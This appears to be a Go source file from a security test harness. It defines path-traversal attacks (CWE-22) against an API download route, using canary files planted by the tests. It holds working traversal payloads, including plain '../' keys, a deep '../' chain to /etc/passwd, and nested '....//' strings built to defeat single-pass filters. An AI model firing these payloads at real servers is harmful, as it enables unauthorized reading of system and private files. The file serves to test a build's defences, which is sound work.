package attack

import (
	"context"
	"fmt"
	"net/http"
	"strings"
)

// Traversal on the download route with no signature at all: the basic
// attack sends plain "../" keys, the bypass nests "../" so that a filter
// removing it in one pass puts it back together. The canaries sit in the
// parent and grandparent of the storage directory (tests/files_test.go,
// plantCanary); on the secure build every request is the same 403, since
// an unsigned link is refused before the key is looked at.
func fileBasicAttacks() []Attack {
	return []Attack{
		{
			ID: "files/unsigned-traversal", Issue: "files", OWASP: "API8:2023", CWE: "CWE-22",
			Story: "Ask the download route for ../canary.txt, ../../canary.txt and ../passwd with no signature: the canary outside the storage root must never come back.",
			Run: func(ctx context.Context, t *Target) (Result, error) {
				// The canary keys find what the tests plant next to the
				// storage root; the deep one reaches /etc/passwd from
				// wherever a live demo keeps its files.
				return unsignedKeys(ctx, t, "../canary.txt", "../../canary.txt", "../passwd", strings.Repeat("../", 12)+"etc/passwd")
			},
		},
		{
			ID: "files/nested-traversal", Issue: "files", OWASP: "API8:2023", CWE: "CWE-22",
			Story: "Nest the ../ in the unsigned key (....//canary.txt, ..././canary.txt, ....//....//canary.txt) so that stripping ../ once rebuilds it.",
			Run: func(ctx context.Context, t *Target) (Result, error) {
				return unsignedKeys(ctx, t, "....//canary.txt", "..././canary.txt", "....//....//canary.txt", strings.Repeat("....//", 12)+"etc/passwd")
			},
		},
	}
}

// unsignedKeys requests each key with no expiry, key id or signature. A
// canary (or /etc/passwd) in any body is EXPLOITED; otherwise BLOCKED, with
// every answer as evidence.
func unsignedKeys(ctx context.Context, t *Target, keys ...string) (Result, error) {
	answers := make([]string, 0, len(keys))
	for _, key := range keys {
		x, err := t.send(ctx, request{method: http.MethodGet, path: "/api/v1/downloads?" + rawQuery("key", key)})
		if err != nil {
			return Result{}, err
		}
		if marker := t.leaked(x.body); marker != "" {
			return exploited("unsigned key %q read a file outside the storage root (%q in the body): %s", key, marker, x)
		}
		answers = append(answers, fmt.Sprintf("%s → %d", key, x.status))
	}
	return blocked("%d unsigned keys, no planted secret in any answer: %s", len(keys), strings.Join(answers, ", "))
}
